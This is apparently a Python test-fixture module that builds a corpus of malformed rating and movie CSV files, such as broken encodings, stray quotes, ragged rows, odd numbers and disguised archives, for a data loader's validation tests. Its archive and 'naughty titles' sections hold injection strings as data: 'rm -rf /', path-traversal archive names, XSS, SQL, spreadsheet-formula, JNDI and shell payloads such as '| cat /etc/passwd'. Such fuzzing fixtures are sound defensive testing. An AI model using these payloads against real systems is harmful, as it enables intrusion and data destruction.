"""Malformed files, made here: encodings, line ends, quotes, ragged rows, odd numbers, archives.

Each family is a function that yields cases. A case is a file, what it is, and what must become of
it: `lines` — judged line by line, as the oracle does — or the rule by which the whole file is
rejected. The odd part stands among twenty good lines, so that one odd line condemns no file.
"""

import bz2
import gzip
import io
import json
import lzma
import random
import tarfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from recsys_assets_tests.malformed.oracle import HEADER

LINES = "lines"
GOOD = [
    f"{user},{item},{stars},{978300000 + item}"
    for user, item, stars in [(n % 7 + 1, n, (n % 10 + 1) / 2) for n in range(1, 21)]
]


@dataclass(frozen=True)
class Case:
    """One file of the corpus."""

    name: str
    """What is odd about it."""
    content: bytes
    """The file."""
    expected: str = LINES
    """`lines`, or the rule by which the file is rejected; several by |."""
    dataset: str = "ratings"
    """The data set it is landed for."""


def text_of(lines: list[str], header: str = HEADER, end: str = "\n") -> str:
    """A file with a header."""
    return end.join([header, *lines]) + end


def among(*odd: str) -> bytes:
    """Odd lines in the midst of good ones."""
    return text_of([*GOOD[:10], *odd, *GOOD[10:]]).encode()


def encodings() -> Iterator[Case]:
    """Text in other encodings than UTF-8, and bytes that are no text in any."""
    text = text_of(GOOD)
    yield Case("utf-8 with a mark", b"\xef\xbb\xbf" + text.encode())
    yield Case("two marks", b"\xef\xbb\xbf" * 2 + text.encode(), "file.columns")
    yield Case("a mark in the middle", among("\ufeff9,9,4.0,978300000"))
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"):
        yield Case(codec, text.encode(codec), "file.encoding|file.binary|file.columns")
    for codec in ("cp500", "cp037"):
        yield Case(f"EBCDIC {codec}", text.encode(codec), "file.encoding|file.columns")
    for codec in ("latin-1", "cp1252", "cp437", "mac-roman", "koi8-r"):
        line = "9,9,é,978300000" if codec != "koi8-r" else "9,9,я,978300000"
        content = text_of([*GOOD, line]).encode(codec)
        yield Case(f"{codec} letter", content, "file.encoding")
    for codec, letters in (
        ("shift_jis", "映画"),
        ("gb18030", "电影"),
        ("big5", "電影"),
        ("euc-kr", "영화"),
    ):
        content = text_of([*GOOD, f"9,9,{letters},978300000"]).encode(codec)
        yield Case(f"{codec} letters", content, "file.encoding")
    broken = {
        "a lone continuation byte": b"\x80",
        "a cut letter": b"\xe2\x82",
        "an overlong slash": b"\xc0\xaf",
        "a surrogate": b"\xed\xa0\x80",
        "beyond Unicode": b"\xf5\x80\x80\x80",
        "byte ff": b"\xff",
    }
    for name, data in broken.items():
        content = among("@").replace(b"@", b"9,9," + data + b",978300000")
        yield Case(name, content, "file.encoding")
    yield Case("utf-7", text_of([*GOOD, "9,9,+AOk-,978300000"]).encode())
    yield Case("a byte swapped mark alone", b"\xfe\xff", "file.encoding")
    yield Case("a mark alone", b"\xef\xbb\xbf", "file.empty")


def line_ends() -> Iterator[Case]:
    """Line ends of every system, mixed, missing and doubled."""
    yield Case("crlf", text_of(GOOD, end="\r\n").encode())
    yield Case("cr only", text_of(GOOD, end="\r").encode(), "file.columns")
    yield Case("crcrlf", text_of(GOOD, end="\r\r\n").encode())
    yield Case("lfcr", text_of(GOOD, end="\n\r").encode(), "file.bad_share|lines")
    mixed = HEADER + "\n" + "".join(g + e for g, e in zip(GOOD, ["\n", "\r\n"] * 10, strict=True))
    yield Case("lf and crlf mixed", mixed.encode())
    yield Case("no end of the last line", text_of(GOOD).rstrip("\n").encode())
    yield Case("many empty lines at the end", (text_of(GOOD) + "\n" * 5).encode())
    for name, character in {
        "vertical tab": "\x0b",
        "form feed": "\x0c",
        "next line": "\x85",
        "line separator": "\u2028",
        "paragraph separator": "\u2029",
        "file separator": "\x1c",
        "unit separator": "\x1f",
        "control-z": "\x1a",
        "escape": "\x1b[2J",
        "bell": "\x07",
        "delete": "\x7f",
    }.items():
        yield Case(f"{name} within a line", among(f"9,9,4.0{character},978300000"))
        yield Case(f"{name} after a line", among(f"9,9,4.0,978300000{character}"))
    yield Case("control-z at the end, as CP/M wrote", text_of(GOOD).encode() + b"\x1a")
    yield Case("a return within a line", among("9,9\r,4.0,978300000"))
    yield Case("blank lines between all", "\n\n".join([HEADER, *GOOD]).encode(), "file.bad_share")
    yield Case("a line of blanks", among("    "))
    yield Case("a line of tabs", among("\t\t\t"))
    yield Case("only line ends", b"\n\n\n\n", "file.empty")
    yield Case("one line end", b"\n", "file.empty")


def quotes() -> Iterator[Case]:
    """Quotes that are open, astray, doubled, of another kind, or around what ends a field."""
    for name, line in {
        "every field quoted": '"9","9","4.0","978300000"',
        "one field quoted": '9,"9",4.0,978300000',
        "an open quote": '"9,9,4.0,978300000',
        "an open quote in the last field": '9,9,4.0,"978300000',
        "a quote after the field began": '9,9,4"0,978300000',
        "text after a closing quote": '"9"9,9,4.0,978300000',
        "a doubled quote": '9,9,""4.0"",978300000',
        "an escaped quote": '9,9,\\"4.0\\",978300000',
        "a quoted comma": '9,9,"4,0",978300000',
        "a quoted field more": '9,9,4.0,978300000,"x,y"',
        "single quotes": "'9','9','4.0','978300000'",
        "typographic quotes": "“9”,“9”,“4.0”,“978300000”",
        "a blank before a quote": '9, "9",4.0,978300000',
        "a blank after a quote": '9,"9" ,4.0,978300000',
        "an empty quoted field": '9,"",4.0,978300000',
        "only a quote": '"',
        "only quotes": '""""""""',
        "quoted separators only": '",,,"',
        "backslash before the separator": "9\\,9,4.0,978300000",
    }.items():
        yield Case(name, among(line))
    yield Case("a line end within quotes", among('9,"9\n",4.0,978300000'))
    yield Case("a quote left open over the rest of the file", text_of(['"9,9', *GOOD]).encode())
    yield Case(
        "header in quotes", text_of(GOOD, '"userId","movieId","rating","timestamp"').encode()
    )
    yield Case(
        "header with an open quote", text_of(GOOD, '"userId,movieId').encode(), "file.columns"
    )


def ragged() -> Iterator[Case]:
    """Rows with too few or too many fields; headers that are others, doubled or missing."""
    for count in (1, 2, 3, 5, 6, 50):
        yield Case(f"{count} fields", among(",".join(["9"] * count)))
    yield Case(
        "a separator at the end of every line",
        text_of([f"{g}," for g in GOOD]).encode(),
        "file.bad_share",
    )
    yield Case(
        "a separator before every line", text_of([f",{g}" for g in GOOD]).encode(), "file.bad_share"
    )
    yield Case("only separators", among(",,,"))
    yield Case("a line cut off at the end of the file", (text_of(GOOD) + "9,9,4").encode())
    yield Case("no header", "\n".join(GOOD).encode(), "file.columns")
    yield Case("header twice", among(HEADER))
    yield Case("header alone", (HEADER + "\n").encode())
    yield Case("header alone without an end", HEADER.encode())
    yield Case("header and blank lines", (HEADER + "\n\n\n").encode(), "file.bad_share")
    for name, header in {
        "capital letters": HEADER.upper(),
        "columns in another order": "movieId,userId,rating,timestamp",
        "a column more": HEADER + ",extra",
        "a column less": "userId,movieId,rating",
        "a column twice": "userId,userId,rating,timestamp",
        "other names": "a,b,c,d",
        "by semicolon": HEADER.replace(",", ";"),
        "by tab": HEADER.replace(",", "\t"),
        "by pipe": HEADER.replace(",", "|"),
        "an empty name": "userId,,rating,timestamp",
        "letters that look alike": HEADER.replace("e", "е"),
        "a letter without width": "user\u200bId,movieId,rating,timestamp",
        "a comment": "# exported today",
        "a sep line as Excel writes it": "sep=,",
    }.items():
        rule = "file.header" if name == "a column twice" else "file.columns"
        yield Case(f"header: {name}", text_of(GOOD, header).encode(), rule)
    yield Case(
        "header with blanks around names",
        text_of(GOOD, "userId , movieId,rating, timestamp").encode(),
    )
    yield Case("an empty file", b"", "file.empty")
    yield Case("blanks only", b"      ", "file.empty")
    yield Case(
        "columns of the data by semicolon",
        text_of([g.replace(",", ";") for g in GOOD]).encode(),
        "file.bad_share",
    )
    yield Case(
        "more bad lines than a fifth", text_of([*GOOD, *["x"] * 15]).encode(), "file.bad_share"
    )
    yield Case("a few bad lines", text_of([*GOOD, "x", "y", "z"]).encode())


def binary() -> Iterator[Case]:
    """NUL bytes and huge fields."""
    yield Case("a NUL byte in a field", among("9,9,4\0.0,978300000"), "file.binary")
    yield Case("a NUL byte at the end", text_of(GOOD).encode() + b"\0", "file.binary")
    yield Case("NUL bytes at the start", b"\0\0\0" + text_of(GOOD).encode(), "file.binary")
    yield Case("NUL bytes only", b"\0" * 1000, "file.binary")
    yield Case(
        "a hole of NUL bytes, as after a crash",
        text_of(GOOD).encode() + b"\0" * 4096,
        "file.binary",
    )
    yield Case("random bytes", random.Random(7).randbytes(5000), "file.binary|file.encoding")
    yield Case("a field of 900 kB", among("9,9,4.0," + "9" * 900_000))
    yield Case("a field of 2 MB", among("9,9,4.0," + "9" * 2_000_000), "file.line_length")
    yield Case("a first line of 2 MB", b"u" * 2_000_000, "file.line_length")
    yield Case("a line of a million separators", among("," * 1_000_000))
    yield Case("a line of half a million quotes", among('"' * 500_000))


def numbers() -> Iterator[Case]:
    """Values that are no number, too large, or numbers in other clothes."""
    stars = [
        "0",
        "0.5",
        "5",
        "5.0",
        "5.00",
        ".5",
        "5.",
        "0.49",
        "5.01",
        "4.25",
        "4.9999999999",
        "-1",
        "-0.5",
        "+4",
        "4e0",
        "40e-1",
        "1e400",
        "nan",
        "NaN",
        "inf",
        "-inf",
        "Infinity",
        "null",
        "None",
        "",
        "4,5",
        "four",
        "4.0.0",
        "0x4",
        "4_0",
        "４",
        "٤",
        "4 ",
        " 4",
        "1/2",
        "4%",
        "$4",
        "TRUE",
        "4f",
        "4d",
    ]
    for text in stars:
        quoted = f'"{text}"' if "," in text else text
        yield Case(f"stars {text!r}", among(f"9,9,{quoted},978300000"))
    users = [
        "0",
        "-1",
        "007",
        "+7",
        "7.0",
        "7e0",
        "2147483647",
        "2147483648",
        "4294967297",
        "9223372036854775808",
        "1" * 400,
        "",
        " 7",
        "7 ",
        "0x7",
        "1_000",
        "1 000",
        "７",
        "NaN",
        "7;8",
    ]
    for text in users:
        yield Case(f"user {text[:25]!r}", among(f"{text},9,4.0,978300000"))
    times = [
        "0",
        "-1",
        "978300000000",
        "978300000.5",
        "2001-01-01",
        "2001-01-01T00:00:00Z",
        "4102444801",
        "631151999",
        "631152000",
        "now",
        "9.783e8",
        "",
    ]
    for text in times:
        yield Case(f"time {text!r}", among(f"9,9,4.0,{text}"))


def archives() -> Iterator[Case]:
    """Files that are something else: archives, pages, documents; and broken gzip."""
    plain = text_of(GOOD).encode()
    packed = gzip.compress(plain, mtime=0)
    yield Case("gzip", packed)
    yield Case(
        "two gzip members",
        gzip.compress(plain[:100], mtime=0) + gzip.compress(plain[100:], mtime=0),
    )
    yield Case("gzip cut off", packed[: len(packed) // 2], "file.gzip")
    yield Case("gzip without its end", packed[:-8], "file.gzip")
    yield Case("gzip with a wrong checksum", packed[:-8] + b"\1\2\3\4" + packed[-4:], "file.gzip")
    yield Case("gzip with rubbish behind it", packed + b"rubbish", "file.gzip|lines")
    yield Case(
        "gzip in gzip", gzip.compress(packed, mtime=0), "file.binary|file.encoding|file.columns"
    )
    yield Case("the first bytes of gzip only", b"\x1f\x8b", "file.gzip")
    yield Case("an empty gzip", gzip.compress(b"", mtime=0), "file.empty")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../escape.csv", plain)
    yield Case("zip with a name that climbs", buffer.getvalue(), "file.binary|file.encoding")
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w") as tar:
        member = tarfile.TarInfo("/etc/escape.csv")
        member.size = len(plain)
        tar.addfile(member, io.BytesIO(plain))
    yield Case("tar", tape.getvalue(), "file.binary|file.encoding")
    rules = "file.binary|file.encoding|file.columns"
    yield Case("bzip2", bz2.compress(plain), rules)
    yield Case("xz", lzma.compress(plain), rules)
    yield Case("parquet", b"PAR1" + bytes(range(256)) * 4 + b"PAR1", rules)
    yield Case("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", rules)
    yield Case("png", b"\x89PNG\r\n\x1a\n" + bytes(100), rules)
    yield Case("a web page", b"<!DOCTYPE html><html><body>Sign in</body></html>\n", "file.html")
    yield Case("a web page after blanks", b"\n  <html></html>\n", "file.html|file.columns")
    yield Case("xml", b'<?xml version="1.0"?><ratings/>\n', "file.html")
    yield Case("json", json.dumps([{"userId": 1}]).encode(), "file.columns")
    yield Case("json lines", b'{"userId": 1, "movieId": 2}\n' * 20, "file.columns")
    yield Case("yaml", b"---\nratings:\n  - user: 1\n", "file.columns")
    yield Case("an error of a server", b"503 Service Unavailable\n", "file.columns")
    yield Case(
        "a pointer of git-lfs",
        b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n",
        "file.columns",
    )
    yield Case("a script", b"#!/bin/sh\nrm -rf /\n", "file.columns")


NAUGHTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "' OR 1=1 --",
    "'; DROP TABLE movies; --",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+1",
    "-2+3",
    "=HYPERLINK(1)",
    "../../../etc/passwd",
    "%s%n%x",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "{% raw %}",
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "&& reboot",
    "null",
    "None",
    "NaN",
    "undefined",
    "true",
    "𝒻𝒶𝓃𝒸𝓎",
    "👩‍👩‍👧‍👦",
    "\u202eright to left",
    "\u200bzero width",
    "Z̸̢a̷l̵g̶o̵",
    "مرحبا",
    "你好",
    "ﬁ ligature",
    "İstanbul",
    "ß",
    "Robert'); --",
    "<!channel>",
    "[link](http://x)",
    "**bold**",
    "\\x00",
    "%00",
    "CON",
    "a" * 999,
]


def naughty_titles() -> Iterator[Case]:
    """Titles that mean something to a browser, a database, a shell, a spreadsheet or a template."""
    for number, title in enumerate(NAUGHTY, 1):
        quoted = '"' + title.replace('"', '""') + '"'
        content = f"movieId,title,genres\n{number},{quoted},Drama\n".encode()
        yield Case(f"title {title[:30]!r}", content, LINES, "movies")


FAMILIES = (encodings, line_ends, quotes, ragged, binary, numbers, archives, naughty_titles)


def corpus() -> list[Case]:
    """Every case; the same ones each time."""
    return [case for family in FAMILIES for case in family()]
